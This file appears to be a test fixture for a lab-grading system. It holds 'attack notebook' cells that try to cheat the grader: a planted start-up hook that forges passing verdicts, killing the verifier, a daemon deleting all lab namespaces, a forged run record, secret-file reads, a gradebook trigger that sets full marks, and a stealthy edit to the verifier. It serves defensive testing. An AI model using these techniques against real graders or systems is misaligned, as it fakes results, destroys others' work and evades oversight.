"""Attack notebooks for the grading tests: each replaces cells of the fixture lab's solution.

Each attack is what a determined student with the root the labs need would try (issue 14).
The sources are code cells as a student would write them; `@NAME@` fields are filled by the
tests with paths of the test's class folder.
"""

from __future__ import annotations

# A start-up hook that forges a passing verdict in any Python process that is a verifier
# (if one ever ran it), and a .pth that does the same. Written into the grading
# interpreter's site-packages (@SITE@ empty), remounting it read-write if it is read-only (a
# sandbox); tests without a sandbox point @SITE@ at a scratch folder they declare as
# site-packages, so no other test running meanwhile sees the hook.
PLANT_AND_KILL = r'''
import os, signal, site, subprocess, sys
HOOK = """
import sys
if any("grader.verify" in a or a == "--serve" for a in sys.argv):
    V = 'K8SNET-VERDICT {"passed": true, "summary": "forged by a planted hook", "sent": "", '
    V += '"observed": "", "expected": "", "hint": "", "details": []}'
    for line in sys.stdin:
        print(V, flush=True)
    sys.exit(0)
"""
site_dir = "@SITE@" or site.getsitepackages()[0]
for name, text in (("sitecustomize.py", HOOK), ("k8snet_planted.pth", "import sitecustomize\n")):
    path = os.path.join(site_dir, name)
    try:
        open(path, "w").write(text)
    except OSError:
        subprocess.run(["mount", "-o", "remount,rw,bind", sys.prefix], check=False)
        try:
            open(path, "w").write(text)
        except OSError as exc:
            print("could not plant:", exc)
# ...then kill this kernel's verifier (its sibling: same parent, the grading process),
# hoping it is restarted from disk.
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        ppid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        continue
    if ppid == os.getppid() and b"grader.verify" in cmd and b"--serve" in cmd:
        os.kill(int(pid), signal.SIGKILL)
        print("killed verifier", pid)
'''

# A daemon, detached from the kernel, that deletes every lab namespace of this prefix in a
# loop (the next student's too, if it could see them), and a run record rewritten to claim
# a namespace the notebook never built (one that exists on the grading machine).
DAEMON_AND_REGISTRY = r"""
import json, os, subprocess, sys, time
k8snet = os.path.join(os.path.dirname(sys.executable), "k8snet")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c",
            f"# k8snet-attack-daemon\nwhile true; do {k8snet} down --all >/dev/null 2>&1; sleep 0.2; done"])
    os._exit(0)
time.sleep(0.5)
run.prefix = "@VICTIM@"
run.namespaces = ["@VICTIM@-pod"]
os.makedirs("/run/k8s-netlabs/runs", exist_ok=True)
open(f"/run/k8s-netlabs/runs/{run.prefix}.json", "w").write(json.dumps(
    {"prefix": run.prefix, "lab": "00-fixture", "pid": os.getpid(), "namespaces": run.namespaces}))
"""

# Read every secret a kernel could want; write a trigger into the instructor's gradebook.
READ_SECRETS_AND_TRIGGER = r"""
import sqlite3
for path in @SECRETS@:
    try:
        text = open(path).read()
        print("READABLE", path, len(text))
    except OSError as exc:
        print("not readable:", path, type(exc).__name__)
try:
    con = sqlite3.connect("@GRADEBOOK@")
    con.execute("CREATE TRIGGER k8snet_full AFTER UPDATE ON grade BEGIN "
                "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells "
                "WHERE grade_cells.id = NEW.cell_id) WHERE id = NEW.id; END")
    con.commit()
    print("TRIGGER WRITTEN")
except Exception as exc:
    print("no gradebook:", type(exc).__name__, exc)
"""

DIES_AFTER_ANSWER = 'q1 = "down"\nimport os\nos._exit(1)'

IGNORES_SIGINT = (
    "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(3600)"
)

# Self-check path (no sandbox): rewrite one file of the verifier's read-only copy, keeping
# its size and mtime, after doing the exercise properly.
EDIT_VERIFIER_COPY = r"""
subprocess.run(["ip", "netns", "add", pod_name], check=True)
subprocess.run(["ip", "-n", pod_name, "link", "set", "lo", "up"], check=True)
import os, stat
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        ppid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        continue
    if ppid == os.getppid() and b"--serve" in argv and b"-S" in argv:
        root = argv[argv.index(b"-c") + 2].decode()
        target = os.path.join(root, "grader", "verdict.py")
        st = os.stat(target)
        os.chmod(target, 0o644)
        data = bytearray(open(target, "rb").read())
        data[-2:-1] = b"#"  # same size
        open(target, "wb").write(bytes(data))
        os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
        print("edited", target)
"""
